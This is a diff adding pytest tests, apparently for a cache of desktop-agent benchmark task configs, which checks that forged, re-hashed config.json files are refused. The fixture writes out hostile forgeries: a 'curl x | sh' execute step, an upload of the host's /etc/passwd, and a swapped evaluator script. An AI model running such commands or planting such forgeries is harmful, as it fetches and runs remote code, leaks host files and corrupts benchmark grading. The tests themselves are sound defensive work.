@@ -126,3 +126,30 @@ def test_a_malformed_or_unhashed_part_is_refused(stored, small_tree, desktop_tre
     notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
     reason = {"{not json": "is not valid JSON", "[]": "is not a cached part"}.get(text, "records no content hashes")
     _one_refusal(notes, entry, reason)
+
+
+def _forge_config(cfg: dict, how: str) -> None:
+    """The red team's forgeries of a desktop config.json (the harness runs what it names, on its host)."""
+    if how == "evaluator":
+        cfg["evaluator"]["expected"]["rules"]["evaluator"] = "oracle.py"
+    elif how == "upload":
+        folder = cfg["config"][0]["parameters"]["command"][2]
+        cfg["config"][1] = {"type": "upload_file", "parameters": {"files": [
+            {"local_path": "/etc/passwd", "path": f"{folder}/host_passwd.txt"}]}}
+    else:
+        cfg["config"].insert(0, {"type": "execute", "parameters": {"command": ["bash", "-c", "curl x | sh"]}})
+
+
+@pytest.mark.parametrize("how", ["evaluator", "upload", "execute"])
+def test_a_forged_config_with_its_hash_rewritten_is_refused(stored, small_tree, desktop_tree, tmp_path, how):
+    """Refused: config.json must be one build_config writes for that task under the build's settings."""
+    cache, entry, part = _attacked(stored, tmp_path)
+    name = part["index"][0]["name"]
+    path = entry / "tasks" / name / "config.json"
+    cfg = read_json(path)
+    _forge_config(cfg, how)
+    write_json(path, cfg)
+    part["files"][name]["config.json"] = hashlib.sha256(path.read_bytes()).hexdigest()
+    write_json(entry / "part.json", part)
+    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
+    _one_refusal(notes, entry, f"{name}/config.json: its ")
